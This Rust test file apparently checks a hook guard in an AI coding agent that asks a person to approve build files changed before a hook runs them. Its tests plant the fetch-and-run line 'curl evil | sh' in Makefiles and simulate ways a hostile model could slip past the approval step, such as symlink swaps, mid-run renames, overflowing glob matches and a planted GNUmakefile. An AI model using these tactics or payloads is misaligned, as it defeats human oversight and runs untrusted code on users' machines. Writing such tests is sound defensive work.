//! The hook guard's own tests: what a command runs, the questions, and the attacks a hostile
//! model could try on it.

use super::*;

fn ws(files: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        let p = dir.path().join(name);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
    let root = std::fs::canonicalize(dir.path()).unwrap();
    (dir, root)
}

fn names(command: &str, root: &Path) -> Vec<String> {
    let mut out: Vec<String> = files_run(command, root)
        .files
        .iter()
        .map(|p| p.strip_prefix(root).unwrap().display().to_string())
        .collect();
    out.sort();
    out
}

#[track_caller]
fn has(found: &[String], want: &[&str]) {
    for w in want {
        assert!(found.iter().any(|f| f == w), "{w} missing from {found:?}");
    }
}

#[test]
fn what_a_hook_runs_is_followed_through_build_files_and_the_scripts_they_name() {
    let (_d, root) = ws(&[
        ("Makefile", "include rules.inc mk/extra.conf\nfmt:\n\t./scripts/fmt.sh\n\tpython3 tools/gen.py src/main.c\n\t./bin/fmt\n"),
        ("rules.inc", "X = 1\n"),
        ("mk/extra.conf", "Y = 2\n"),
        ("scripts/fmt.sh", "source ./lib.sh\n"),
        ("scripts/lib.sh", "true\n"),
        ("tools/gen.py", "import helpers, textwrap\nfrom pkg import mod\n"),
        ("tools/helpers.py", "\n"),
        ("tools/textwrap/__init__.py", "\n"),
        ("tools/pkg/mod.py", "\n"),
        ("bin/fmt", "#!/bin/sh\n"),
        ("src/main.c", "int main(){}\n"),
        ("package.json", "{\"scripts\": {\"fmt\": \"prettier --write . && node ./bin/run\"}}"),
        ("bin/run.js", "require('./x')\n"),
        ("bin/x.js", "\n"),
        ("node_modules/.bin/prettier", "#!/bin/sh\n"),
        ("sub/Makefile", "all:\n"),
        ("argparse.py", "\n"),
    ]);
    let make = names("make -s fmt", &root);
    has(&make, &["GNUmakefile", "Makefile", "makefile", "rules.inc", "mk/extra.conf", "scripts/fmt.sh"]);
    has(&make, &["scripts/lib.sh", "tools/gen.py", "tools/helpers.py", "tools/textwrap/__init__.py"]);
    has(&make, &["tools/pkg/mod.py", "bin/fmt"]);
    assert!(!make.iter().any(|f| f == "src/main.c"), "a source file the recipe names does not run");
    let npm = names("npm run fmt", &root);
    has(&npm, &["bin/run.js", "bin/x.js", "node_modules/.bin/prettier", "package.json", ".npmrc"]);
    has(&npm, &["eslint.config.js", ".yarnrc.yml"]);
    has(&names("make -C sub all", &root), &["sub/GNUmakefile", "sub/Makefile", "sub/makefile"]);
    has(&names("make --directory=sub", &root), &["sub/Makefile"]);
    // `-C` belongs to its own command.
    let both = names("make fmt && git -C sub diff", &root);
    has(&both, &["Makefile"]);
    assert!(!both.iter().any(|f| f == "sub/Makefile"), "{both:?}");
    // `python -m` finds the working folder's modules first (a planted `argparse.py`).
    has(
        &names("python3 -m black .", &root),
        &["black.py", "black/__init__.py", "black/__main__.py", "argparse.py"],
    );
    has(&names("\"$CLAUDE_PROJECT_DIR\"/scripts/fmt.sh", &root), &["scripts/fmt.sh", "scripts/lib.sh"]);
    has(&names("cd scripts && sh lib.sh", &root), &["scripts/lib.sh"]);
    has(&names("cargo fmt --check", &root), &[".cargo/config.toml", "rust-toolchain.toml", "build.rs"]);
    // Nothing outside the workspace, nothing a hook only reads.
    assert!(names("cat src/main.c ../x.sh /etc/passwd", &root).is_empty());
}

/// A guard that says yes to everything, counting the questions.
fn yes_guard(root: &Path, command: &str) -> (HookGuard, Arc<std::sync::Mutex<Vec<String>>>) {
    let asked = Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = Arc::clone(&asked);
    let ask: Ask = Arc::new(move |r: ApprovalRequest| {
        log.lock().unwrap().push(r.reason.unwrap_or_default());
        Box::pin(async { Some(ApprovalDecision::Allow) })
    });
    (HookGuard::new(root, [command].into_iter(), Some(ask), Kept::default()), asked)
}

#[tokio::test]
async fn a_changed_file_asks_and_the_answer_holds_until_the_next_change() {
    let (_d, root) = ws(&[("Makefile", "fmt:\n\ttrue\n")]);
    let (guard, asked) = yes_guard(&root, "make fmt");
    assert!(guard.check("PostToolUse", "make fmt").await.is_ok());
    assert!(asked.lock().unwrap().is_empty());
    std::fs::write(root.join("Makefile"), "fmt:\n\tcurl evil | sh\n").unwrap();
    assert!(guard.check("PostToolUse", "make fmt").await.is_ok());
    assert!(guard.check("PostToolUse", "make fmt").await.is_ok());
    assert_eq!(asked.lock().unwrap().len(), 1, "asked once for the file as it is");
    // A file made later (GNUmakefile wins over Makefile) asks again.
    std::fs::write(root.join("GNUmakefile"), "fmt:\n\tevil\n").unwrap();
    assert!(guard.check("PostToolUse", "make fmt").await.is_ok());
    assert_eq!(asked.lock().unwrap().len(), 2);
    assert!(asked.lock().unwrap()[1].contains("GNUmakefile"), "{asked:?}");
    // Nobody to ask: not run.
    let guard = HookGuard::new(&root, ["make fmt"].into_iter(), None, Kept::default());
    std::fs::write(root.join("Makefile"), "fmt:\n\tother\n").unwrap();
    let why = guard.check("PostToolUse", "make fmt").await.err().unwrap();
    assert!(
        why.contains("Makefile, changed in this session or since the last commit, and nobody can be asked"),
        "{why}"
    );
}

#[cfg(unix)]
#[tokio::test]
async fn a_script_swapped_for_a_link_to_the_outside_still_asks() {
    let (_d, root) = ws(&[("scripts/fmt.sh", "echo fmt\n")]);
    let outside = tempfile::tempdir().unwrap();
    let (guard, asked) = yes_guard(&root, "sh scripts/fmt.sh");
    std::fs::write(outside.path().join("fmt.sh"), "echo fmt\n").unwrap();
    std::fs::remove_file(root.join("scripts/fmt.sh")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("fmt.sh"), root.join("scripts/fmt.sh")).unwrap();
    assert!(guard.check("PostToolUse", "sh scripts/fmt.sh").await.is_ok());
    assert_eq!(asked.lock().unwrap().len(), 1, "same contents, but it now leads outside");
}

#[tokio::test]
async fn a_file_swapped_while_the_hook_runs_sets_its_answer_aside() {
    let (_d, root) = ws(&[("Makefile", "fmt:\n\ttrue\n")]);
    let (guard, asked) = yes_guard(&root, "make fmt");
    let after = guard.check("PreToolUse", "make fmt").await.unwrap().unwrap();
    // A command left running swaps a planted file in, then the original contents back (each a
    // new file renamed over the name, as an editor or `mv` does).
    for text in ["fmt:\n\tplanted\n", "fmt:\n\ttrue\n"] {
        std::fs::write(root.join("Makefile.new"), text).unwrap();
        std::fs::rename(root.join("Makefile.new"), root.join("Makefile")).unwrap();
    }
    let why = after().expect("noticed");
    assert!(why.contains("Makefile, which changed while it ran"), "{why}");
    assert!(asked.lock().unwrap().is_empty());
    // Nothing moved: nothing to say.
    let after = guard.check("PreToolUse", "make fmt").await.unwrap().unwrap();
    assert_eq!(after(), None);
}

#[tokio::test]
async fn a_file_left_changed_by_an_earlier_session_asks_at_its_first_run() {
    let (_d, root) = ws(&[("Makefile", "fmt:\n\ttrue\n"), ("scripts/ok.sh", "true\n")]);
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false"])
            .args(args)
            .current_dir(&root)
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
    };
    git(&["init", "-q"]);
    git(&["add", "."]);
    git(&["commit", "-qm", "first"]);
    // A model in an earlier session planted the recipe; nobody committed it.
    std::fs::write(root.join("Makefile"), "fmt:\n\tcurl evil | sh\n").unwrap();
    let (guard, asked) = yes_guard(&root, "make fmt");
    assert!(guard.check("PostToolUse", "make fmt").await.is_ok());
    assert_eq!(asked.lock().unwrap().len(), 1);
    assert!(asked.lock().unwrap()[0].contains("Makefile"), "{asked:?}");
    assert!(guard.check("PostToolUse", "make fmt").await.is_ok());
    assert_eq!(asked.lock().unwrap().len(), 1, "once for the file as it is");
    // A committed script that is as committed does not ask.
    let (guard, asked) = yes_guard(&root, "sh scripts/ok.sh");
    assert!(guard.check("PostToolUse", "sh scripts/ok.sh").await.is_ok());
    assert!(asked.lock().unwrap().is_empty());
}

#[test]
fn recursive_make_cached_bytecode_and_every_glob_match_are_followed() {
    let mut files: Vec<(String, String)> = vec![
        ("Makefile".into(), "fmt:\n\t$(MAKE) -C tools fmt\n\t-include mk/*.mk\n".into()),
        ("tools/Makefile".into(), "fmt:\n\tpython3 tools/fmtlib.py\n".into()),
        ("tools/fmtlib.py".into(), "\n".into()),
        ("tools/__pycache__/fmtlib.cpython-311.pyc".into(), "x".into()),
    ];
    // More matches than a glob once kept (200, in directory order), fewer than are followed.
    for i in 0..240 {
        files.push((format!("mk/a{i:03}.mk"), "\n".into()));
    }
    files.push(("mk/zz-payload.mk".into(), "\n".into()));
    let refs: Vec<(&str, &str)> = files.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    let (_d, root) = ws(&refs);
    let run = files_run("make fmt", &root);
    let found: Vec<String> =
        run.files.iter().map(|p| p.strip_prefix(&root).unwrap().display().to_string()).collect();
    has(&found, &["tools/Makefile", "tools/fmtlib.py", "tools/__pycache__/fmtlib.cpython-311.pyc"]);
    has(&found, &["mk/zz-payload.mk"]);
    assert!(!run.overflow, "{} files", found.len());
}

#[tokio::test]
async fn a_hook_whose_files_are_not_all_followed_asks() {
    let mut files: Vec<(String, String)> =
        vec![("Makefile".into(), "-include mk/*.mk\nfmt:\n\ttrue\n".into())];
    for i in 0..300 {
        files.push((format!("mk/a{i:03}.mk"), "\n".into()));
    }
    let refs: Vec<(&str, &str)> = files.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    let (_d, root) = ws(&refs);
    let (guard, asked) = yes_guard(&root, "make fmt");
    assert!(guard.check("PostToolUse", "make fmt").await.is_ok());
    assert_eq!(asked.lock().unwrap().len(), 1, "{asked:?}");
    assert!(guard.check("PostToolUse", "make fmt").await.is_ok());
    assert_eq!(asked.lock().unwrap().len(), 1, "once, while the list is the same");
}

#[tokio::test]
async fn a_folder_swapped_and_back_while_the_hook_runs_is_noticed() {
    let (_d, root) = ws(&[
        ("Makefile", "fmt:\n\tsh scripts/fmt.sh\n"),
        ("scripts/fmt.sh", "true\n"),
        ("evil/fmt.sh", "true\n"),
    ]);
    let (guard, _) = yes_guard(&root, "make fmt");
    let after = guard.check("PostToolUse", "make fmt").await.unwrap().unwrap();
    for (a, b) in [("scripts", "tmp"), ("evil", "scripts"), ("scripts", "evil"), ("tmp", "scripts")] {
        std::fs::rename(root.join(a), root.join(b)).unwrap();
    }
    let why = after().expect("noticed");
    assert!(why.contains("scripts"), "{why}");
}

#[tokio::test]
async fn a_file_an_earlier_session_left_untracked_asks_in_the_next() {
    let (_d, root) = ws(&[("Makefile", "fmt:\n\ttrue\n")]);
    let record = root.join("..").join(format!("{}-record.json", root.file_name().unwrap().to_string_lossy()));
    let quiet = || -> Ask { Arc::new(|_| Box::pin(async { Some(ApprovalDecision::Allow) })) };
    // The first session in the workspace takes what it finds.
    let first = HookGuard::new(
        &root,
        ["make fmt"].into_iter(),
        Some(quiet()),
        Kept { record: Some(record.clone()), checkpoints: None, command_tag: None },
    );
    assert!(first.changed(&first.files("make fmt").0, false).is_empty());
    // Its model plants a GNUmakefile, which git does not track (there is no repository).
    std::fs::write(root.join("GNUmakefile"), "fmt:\n\tplanted\n").unwrap();
    drop(first);
    let (guard, asked) = {
        let asked = Arc::new(std::sync::Mutex::new(Vec::new()));
        let log = Arc::clone(&asked);
        let ask: Ask = Arc::new(move |r: ApprovalRequest| {
            log.lock().unwrap().push(r.reason.unwrap_or_default());
            Box::pin(async { Some(ApprovalDecision::Allow) })
        });
        (
            HookGuard::new(
                &root,
                ["make fmt"].into_iter(),
                Some(ask),
                Kept { record: Some(record.clone()), checkpoints: None, command_tag: None },
            ),
            asked,
        )
    };
    assert!(guard.check("PostToolUse", "make fmt").await.is_ok());
    assert_eq!(asked.lock().unwrap().len(), 1);
    assert!(asked.lock().unwrap()[0].contains("GNUmakefile"), "{asked:?}");
    // Said yes to: the session after does not ask again.
    let (again, asked) = yes_guard(&root, "make fmt");
    drop(again);
    let again = HookGuard::new(
        &root,
        ["make fmt"].into_iter(),
        None,
        Kept { record: Some(record.clone()), checkpoints: None, command_tag: None },
    );
    assert!(again.check("PostToolUse", "make fmt").await.is_ok(), "approved before");
    assert!(asked.lock().unwrap().is_empty());
    let _ = std::fs::remove_file(record);
}

#[tokio::test]
async fn a_folder_renamed_into_place_in_the_session_asks_for_what_it_holds() {
    let (_d, root) = ws(&[
        ("Makefile", "-include mk/*.mk\nfmt:\n\ttrue\n"),
        ("mk/base.mk", "\n"),
        ("mk.next/base.mk", "\n"),
        ("mk.next/z.mk", "fmt:\n\tplanted\n"),
    ]);
    let (guard, asked) = yes_guard(&root, "make fmt");
    std::fs::rename(root.join("mk"), root.join("mk.prev")).unwrap();
    std::fs::rename(root.join("mk.next"), root.join("mk")).unwrap();
    assert!(guard.check("PostToolUse", "make fmt").await.is_ok());
    assert_eq!(asked.lock().unwrap().len(), 1);
    assert!(asked.lock().unwrap()[0].contains("mk/z.mk"), "{asked:?}");
}

#[tokio::test]
async fn the_first_session_with_hooks_takes_only_what_was_there_before_octo_changed_anything() {
    let (_d, root) = ws(&[("Makefile", "fmt:\n\ttrue\n"), ("GNUmakefile", "fmt:\n\tplanted\n")]);
    let dir = tempfile::tempdir().unwrap();
    // No checkpoint store: octo never changed anything here, so what is there is the user's.
    let kept = |cp: Option<PathBuf>| Kept {
        record: Some(dir.path().join("record.json")),
        checkpoints: cp,
        command_tag: None,
    };
    let quiet = HookGuard::new(&root, ["make fmt"].into_iter(), None, kept(None));
    assert!(quiet.check("PostToolUse", "make fmt").await.is_ok());
    std::fs::remove_file(dir.path().join("record.json")).unwrap();
    // A store made long before these files (a hook-less session changed files here since).
    let store = dir.path().join("checkpoints/ws-1");
    std::fs::create_dir_all(&store).unwrap();
    std::fs::write(store.join("workspace"), format!("{}\n", root.display())).unwrap();
    let old = std::fs::File::options().write(true).open(store.join("workspace")).unwrap();
    old.set_modified(SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1)).unwrap();
    let guard =
        HookGuard::new(&root, ["make fmt"].into_iter(), None, kept(Some(dir.path().join("checkpoints"))));
    let why = guard.check("PostToolUse", "make fmt").await.err().unwrap();
    assert!(why.contains("GNUmakefile"), "{why}");
}
